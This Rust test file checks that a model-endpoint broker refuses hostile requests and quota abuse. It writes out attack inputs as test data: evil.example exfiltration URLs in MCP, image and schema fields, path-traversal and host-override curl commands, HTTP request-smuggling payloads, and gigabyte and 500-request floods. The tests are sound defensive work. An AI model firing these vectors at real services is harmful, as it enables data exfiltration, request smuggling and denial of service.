//! Attacks on the broker by real commands in real containers: each is refused with a clear message, and nothing of it
//! reaches the provider.

use crate::inside::{Inside, base64};
use crate::support::lane::Lane;
use crate::support::world::World;
use serde_json::{Value, json};

/// What tells a request of an attack from one of Codex's own, in the provider's record.
const MARK: &str = "ATTACK-7f3a";

/// `ask LABEL CURL-ARGUMENTS…`: a request to the model endpoint; one line with its status and the answer's beginning.
const PRELUDE: &str = r#"
endpoint=http://127.0.0.1:18080
ask() {
    label=$1; shift
    code=$(curl -sS -m 60 -o /tmp/answer -w '%{http_code}' "$@" 2>/tmp/error)
    printf '%s: %s %s %s\n' "$label" "$code" "$(head -c 600 /tmp/answer 2>/dev/null | tr '\r\n' '  ')" "$(head -c 100 /tmp/error)"
    rm -f /tmp/answer
}
# say LABEL BASE64: that body, to the one path that takes one.
say() { base64 -d <<<"$2" >/tmp/body; ask "$1" -H 'content-type: application/json' --data-binary @/tmp/body $endpoint/v1/responses; }
"#;

/// What Codex would send, but for the mark.
fn body() -> Value {
    json!({
        "model": "gpt-5.5",
        "input": [{"type": "message", "role": "user", "content": [{"type": "input_text", "text": MARK}]}],
        "store": false,
        "stream": true,
    })
}

fn push(list: &mut Value, item: Value) {
    list.as_array_mut().unwrap().push(item);
}

fn with(change: impl FnOnce(&mut Value)) -> Value {
    let mut body = body();
    change(&mut body);
    body
}

/// How many of the provider's requests are an attack's.
fn arrived(world: &World) -> usize {
    let requests = world.model.requests();
    requests.iter().filter(|request| is_attack(&request.body)).count()
}

/// The script itself is in what Codex sends, as text of a command that it ran.
fn is_attack(body: &Value) -> bool {
    body["input"][0]["content"][0]["text"] == MARK
}

#[track_caller]
fn line<'t>(text: &'t str, label: &str) -> &'t str {
    let begins = format!("{label}: ");
    text.lines()
        .find_map(|line| line.trim_start().strip_prefix(&begins))
        .unwrap_or_else(|| panic!("no line of {label} in:\n{text}"))
}

fn what_a_body_may_not_say(lane: Lane) {
    let Some(world) = World::new(lane) else { return };
    let evil = "https://evil.example/?q=secret";
    let image = |url: &str| json!([{"type": "input_image", "image_url": url}]);
    let attacks = [
        (
            "another-model",
            with(|body| body["model"] = json!("o3-pro")),
            "not a model of this session",
        ),
        (
            "stored",
            with(|body| body["store"] = json!(true)),
            "`store` has to be false",
        ),
        (
            "unstored",
            with(|body| drop(body.as_object_mut().unwrap().remove("store"))),
            "`store` has to be false",
        ),
        (
            "unstreamed",
            with(|body| body["stream"] = json!(false)),
            "`stream` has to be true",
        ),
        (
            "previous",
            with(|body| body["previous_response_id"] = json!("resp_1")),
            "`previous_response_id`",
        ),
        (
            "conversation",
            with(|body| body["conversation"] = json!("conv_1")),
            "`conversation`",
        ),
        (
            "background",
            with(|body| body["background"] = json!(true)),
            "`background`",
        ),
        (
            "prompt",
            with(|body| body["prompt"] = json!({"id": "pmpt_1"})),
            "`prompt`",
        ),
        (
            "tier",
            with(|body| body["service_tier"] = json!("priority")),
            "`service_tier`",
        ),
        (
            "search",
            with(|body| body["tools"] = json!([{"type": "web_search"}])),
            "codex.web_search",
        ),
        (
            "mcp",
            with(|body| body["tools"] = json!([{"type": "mcp", "server_url": evil}])),
            "`tools[0].type`",
        ),
        (
            "interpreter",
            with(|body| body["tools"] = json!([{"type": "code_interpreter"}])),
            "`tools[0].type`",
        ),
        (
            "nested-mcp",
            with(|body| {
                let tool = json!({"type": "mcp", "server_url": evil});
                push(
                    &mut body["input"],
                    json!({"type": "additional_tools", "role": "developer", "tools": [
                    {"type": "namespace", "name": "n", "description": "", "tools": [tool]}]}),
                );
            }),
            "`input[1].tools[0].tools[0].type`",
        ),
        (
            "fetch",
            with(|body| push(&mut body["input"][0]["content"], image(evil)[0].clone())),
            "data:image",
        ),
        (
            "fetch-in-output",
            with(|body| {
                push(
                    &mut body["input"],
                    json!({"type": "function_call_output", "call_id": "c", "output": image(evil)}),
                );
            }),
            "`input[1].output[0].image_url`",
        ),
        (
            "file",
            with(|body| {
                push(
                    &mut body["input"][0]["content"],
                    json!({"type": "input_file", "file_url": evil}),
                );
            }),
            "`input[0].content[1].type`",
        ),
        (
            "reference",
            with(|body| push(&mut body["input"], json!({"type": "item_reference", "id": "x"}))),
            "`input[1].type`",
        ),
        (
            "include",
            with(|body| body["include"] = json!(["file_search_call.results"])),
            "`include[0]`",
        ),
        (
            "schema",
            with(|body| body["text"] = json!({"format": {"type": "json_schema", "schema": {"$ref": evil}}})),
            "outside the request",
        ),
    ];
    let mut script = PRELUDE.to_owned();
    for (label, body, _) in &attacks {
        script += &format!("say {label} {}\n", base64(body.to_string().as_bytes()));
    }
    let raw = [
        (
            "twice",
            body()
                .to_string()
                .replace("\"store\":false", "\"store\":false,\"store\":true"),
            "a name twice",
        ),
        ("no-json", format!("{{{MARK}"), "no JSON that passes"),
        ("two", format!("{0}{0}", body()), "no JSON that passes"),
        ("deep", "[".repeat(5_000), "no JSON that passes"),
    ];
    for (label, body, _) in &raw {
        script += &format!("say {label} {}\n", base64(body.as_bytes()));
    }
    let ran = Inside::new(&world).run_patiently(&script);
    let expected = attacks.iter().map(|(label, _, words)| (label, words));
    for (label, words) in expected.chain(raw.iter().map(|(label, _, words)| (label, words))) {
        let answer = line(&ran.text, label);
        assert!(
            answer.starts_with("400 ") && answer.contains(words),
            "{label}: {answer}"
        );
        assert!(answer.contains("codex_mcp_request_"), "{label}: {answer}");
    }
    assert_eq!(arrived(&world), 0);
}

fn no_other_path_method_or_header_passes(lane: Lane) {
    let Some(world) = World::new(lane) else { return };
    let good = base64(body().to_string().as_bytes());
    let mut script = PRELUDE.to_owned();
    let others = [
        ("get", "$endpoint/v1/responses"),
        ("delete", "-X DELETE $endpoint/v1/responses"),
        ("put", "-X PUT -d x $endpoint/v1/responses"),
        ("files", "-F file=@/etc/hostname $endpoint/v1/files"),
        ("one", "$endpoint/v1/responses/resp_1"),
        ("cancel", "-X POST $endpoint/v1/responses/resp_1/cancel"),
        ("compact", "-d {} $endpoint/v1/responses/compact"),
        ("chat", "-d {} $endpoint/v1/chat/completions"),
        ("embeddings", "-d {} $endpoint/v1/embeddings"),
        ("dots", "--path-as-is -d {} $endpoint/v1/x/../responses"),
        ("escaped", "-d {} $endpoint/v1/%72esponses"),
        ("double", "-d {} $endpoint//v1/responses"),
        ("case", "-d {} $endpoint/V1/responses"),
        ("absolute", "-x 127.0.0.1:18080 -d {} http://evil.example/v1/files"),
        ("connect", "-x 127.0.0.1:18080 -p http://evil.example/v1/responses"),
    ];
    for (label, arguments) in others {
        script += &format!("ask {label} {arguments}\n");
    }
    script += &format!(
        "base64 -d <<<{good} >/tmp/good\n\
         ask headers -H 'authorization: Bearer theirs' -H 'cookie: theirs' -H 'api-key: theirs' \
         -H 'openai-organization: theirs' -H 'x-forwarded-for: theirs' -H 'x-codex-turn-metadata: theirs' \
         -H 'accept-encoding: zstd' -H 'expect: theirs' -H 'host: evil.example' -H 'content-type: application/json' \
         --data-binary @/tmp/good $endpoint/v1/responses\n\
         ask packed -H 'content-encoding: gzip' --data-binary @<(gzip -c /tmp/good) $endpoint/v1/responses\n"
    );
    let ran = Inside::new(&world).run_patiently(&script);
    for (label, _) in others {
        let answer = line(&ran.text, label);
        let refused = answer.contains("codex_mcp_not_allowed") || (label == "connect" && answer.contains("404"));
        assert!(refused, "{label}: {answer}");
    }
    let packed = line(&ran.text, "packed");
    assert!(packed.contains("codex_mcp_request_unreadable"), "{packed}");
    // The one that passes, without anything of theirs.
    let answer = line(&ran.text, "headers");
    assert!(answer.starts_with("200 "), "{answer}");
    assert_eq!(arrived(&world), 1);
    let requests = world.model.requests();
    let passed = requests.iter().find(|request| is_attack(&request.body)).unwrap();
    assert!(
        !passed
            .headers
            .values()
            .any(|value| value.to_str().is_ok_and(|value| value.contains("theirs"))),
        "{:?}",
        passed.headers
    );
    assert_eq!(passed.headers["host"], world.model.address().to_string().as_str());
    assert!(
        requests
            .iter()
            .all(|request| request.path == "/v1/responses" || request.path == "/v1/models"),
        "{:?}",
        requests.iter().map(|request| &request.path).collect::<Vec<_>>()
    );
}

/// Two requests where one is looked at: each framing that two readers could read differently.
fn a_second_request_can_not_be_smuggled(lane: Lane) {
    let Some(world) = World::new(lane) else { return };
    // What is hidden would pass by itself: only its never having been a request keeps it from the provider.
    let hidden = body().to_string();
    let good = with(|body| body["model"] = json!("o3-pro")).to_string();
    let hidden = format!(
        "POST /v1/responses HTTP/1.1\r\nhost: x\r\ncontent-length: {}\r\n\r\n{hidden}",
        hidden.len()
    );
    let post = |headers: &str, rest: &str| format!("POST /v1/responses HTTP/1.1\r\nhost: x\r\n{headers}\r\n{rest}");
    let length = good.len();
    let attacks = [
        (
            "both",
            post(
                &format!("content-length: {length}\r\ntransfer-encoding: chunked\r\n"),
                &format!("0\r\n\r\n{hidden}"),
            ),
        ),
        (
            "two-lengths",
            post(
                &format!("content-length: {length}\r\ncontent-length: 0\r\n"),
                &format!("{good}{hidden}"),
            ),
        ),
        (
            "list-length",
            post(&format!("content-length: {length}, 0\r\n"), &format!("{good}{hidden}")),
        ),
        (
            "signed",
            post(&format!("content-length: +{length}\r\n"), &format!("{good}{hidden}")),
        ),
        (
            "odd-coding",
            post("transfer-encoding: xchunked\r\n", &format!("0\r\n\r\n{hidden}")),
        ),
        (
            "two-codings",
            post(
                "transfer-encoding: chunked, identity\r\n",
                &format!("0\r\n\r\n{hidden}"),
            ),
        ),
        ("spaced", post("content-length : 0\r\n", &hidden)),
        ("folded", post(" content-length: 0\r\n", &hidden)),
        ("bare-return", post("x: y\rcontent-length: 0\r\n", &hidden)),
        ("null", post("x: a\0b\r\n", &hidden)),
        (
            "bad-chunk",
            post(
                "transfer-encoding: chunked\r\n",
                &format!("fffffffffffffffff\r\n{hidden}"),
            ),
        ),
        (
            "version",
            format!("POST /v1/responses HTTP/9.9\r\nhost: x\r\n\r\n{hidden}"),
        ),
    ];
    let mut script = "port=18080\n".to_owned();
    for (label, bytes) in &attacks {
        script += &format!("raw {label} {} &\n", base64(bytes.as_bytes()));
    }
    // Longer than one argument of a program may be, so it is made inside.
    script += "long=$(printf 'POST /v1/responses HTTP/1.1\\r\\nhost: x\\r\\nx: %0100000d\\r\\n\\r\\n' 0 | base64 -w0)\n\
               raw long-head $long &\nwait\n";
    let ran = Inside::new(&world).run_patiently(&script);
    for label in attacks.iter().map(|(label, _)| *label).chain(["long-head"]) {
        let answer = line(&ran.text, label);
        let refused = [
            "HTTP/1.1 400",
            "HTTP/1.1 404",
            "HTTP/1.1 431",
            "HTTP/1.1 505",
            "(closed)",
        ];
        assert!(
            refused.iter().any(|refused| answer.starts_with(refused)),
            "{label}: {answer}"
        );
    }
    assert_eq!(arrived(&world), 0);
    let models: Vec<String> = world
        .model
        .requests()
        .iter()
        .map(|request| request.body["model"].to_string())
        .collect();
    assert!(models.iter().all(|model| model == "\"gpt-5.5\""), "{models:?}");
}

fn a_body_of_a_gigabyte_costs_nothing(lane: Lane) {
    let Some(world) = World::new(lane) else { return };
    let mut inside = Inside::new(&world);
    inside.run("true");
    let before = inside.peak_memory();
    let script = format!(
        "{PRELUDE}truncate -s 1G /tmp/hole\n\
         ask announced -T /tmp/hole -X POST $endpoint/v1/responses\n\
         head -c 1G /dev/zero | ask streamed -T - -X POST $endpoint/v1/responses\n\
         for i in 1 2 3 4 5 6; do head -c 15M /dev/zero | tr '\\0' 1 | \
         curl -sS -m 60 -o /tmp/many-$i -T - -X POST $endpoint/v1/responses & done; wait\n\
         echo many: $(grep -l codex_mcp_ /tmp/many-* | wc -l)\n"
    );
    let ran = inside.run_patiently(&script);
    for label in ["announced", "streamed"] {
        let answer = line(&ran.text, label);
        // curl may be cut off in the middle of its sending, and then shows the answer or that.
        assert!(answer.contains("codex_mcp_request_too_large"), "{label}: {answer}");
    }
    assert_eq!(line(&ran.text, "many"), "6");
    assert_eq!(arrived(&world), 0);
    let grown = inside.peak_memory().saturating_sub(before);
    assert!(grown < 160 << 20, "the server grew by {} MiB", grown >> 20);
}

fn a_provider_that_redirects_is_not_followed(lane: Lane) {
    let Some(world) = World::new(lane) else { return };
    let mut client = crate::support::client::McpClient::start(&world);
    let result = client.tool("codex", json!({"prompt": "#error 307"}));
    assert_eq!(result["isError"], true, "{result:#}");
    let text = result["content"][0]["text"].as_str().unwrap();
    assert!(
        text.contains("redirect") && text.contains("providers.scripted.base_url"),
        "{text}"
    );
    let requests = world.model.requests();
    assert!(requests.iter().all(|request| request.path != "/v1/elsewhere"));
    assert_eq!(
        requests
            .iter()
            .filter(|request| request.path == "/v1/responses")
            .count(),
        1,
        "Codex stops at once"
    );
}

fn five_hundred_requests_at_once_meet_the_quota(lane: Lane) {
    let Some(world) = World::with_config(lane, "[quota.session]\nrequests = 20") else {
        return;
    };
    let script = format!(
        "{PRELUDE}base64 -d <<<{} >/tmp/good\n\
         curl -sS -m 60 -Z --parallel-max 250 -o /dev/null -w 'got %{{http_code}}\\n' \
         -H 'connection: close' -H 'content-type: application/json' --data-binary @/tmp/good \"$endpoint/v1/responses?[1-500]\" 2>/dev/null \
         | sort | uniq -c\nask after -H 'content-type: application/json' --data-binary @/tmp/good $endpoint/v1/responses\n",
        base64(body().to_string().as_bytes())
    );
    let mut inside = Inside::new(&world);
    // Codex's own next request meets the same bound, and ends the turn at once.
    let result = inside.client.tool(
        "codex",
        json!({"prompt": format!("#shell {}", crate::inside::in_bash(&script))}),
    );
    assert_eq!(result["isError"], true, "{result:#}");
    let text = result["content"][0]["text"].as_str().unwrap();
    assert!(
        text.contains("has spent its 20 requests (quota.session.requests, from"),
        "{text}"
    );
    let sent = world
        .model
        .requests()
        .iter()
        .filter(|request| request.path == "/v1/responses")
        .count();
    assert_eq!(sent, 20);
    assert_eq!(arrived(&world), 19, "all but Codex's own first one");
    let counted = &result["structuredContent"]["modelUsage"];
    assert_eq!(counted["requests"], 20, "{counted}");
    // 500 and one more were asked, 19 of them sent; Codex's own second one was refused as well.
    assert_eq!(counted["refused"], 501 - 19 + 1, "{counted}");
}

fn a_spent_budget_ends_the_turn_at_once(lane: Lane) {
    let Some(world) = World::with_config(lane, "[quota.session]\ntokens = 10") else {
        return;
    };
    let mut inside = Inside::new(&world);
    let first = inside.turn("#text hello");
    assert_eq!(first.text, "hello");
    let thread = inside.thread.clone().unwrap();
    let result = inside
        .client
        .tool("codex-reply", json!({"threadId": thread, "prompt": "#text again"}));
    assert_eq!(result["isError"], true, "{result:#}");
    let text = result["content"][0]["text"].as_str().unwrap();
    assert!(
        text.contains("quota.session.tokens = 10 (from ") && text.contains("config.toml:4) is used up"),
        "{text}"
    );
    assert_eq!(
        world
            .model
            .requests()
            .iter()
            .filter(|request| request.path == "/v1/responses")
            .count(),
        1
    );
}

on_every_lane!(
    what_a_body_may_not_say,
    no_other_path_method_or_header_passes,
    a_second_request_can_not_be_smuggled,
    a_body_of_a_gigabyte_costs_nothing,
    a_provider_that_redirects_is_not_followed,
    five_hundred_requests_at_once_meet_the_quota,
    a_spent_budget_ends_the_turn_at_once,
);
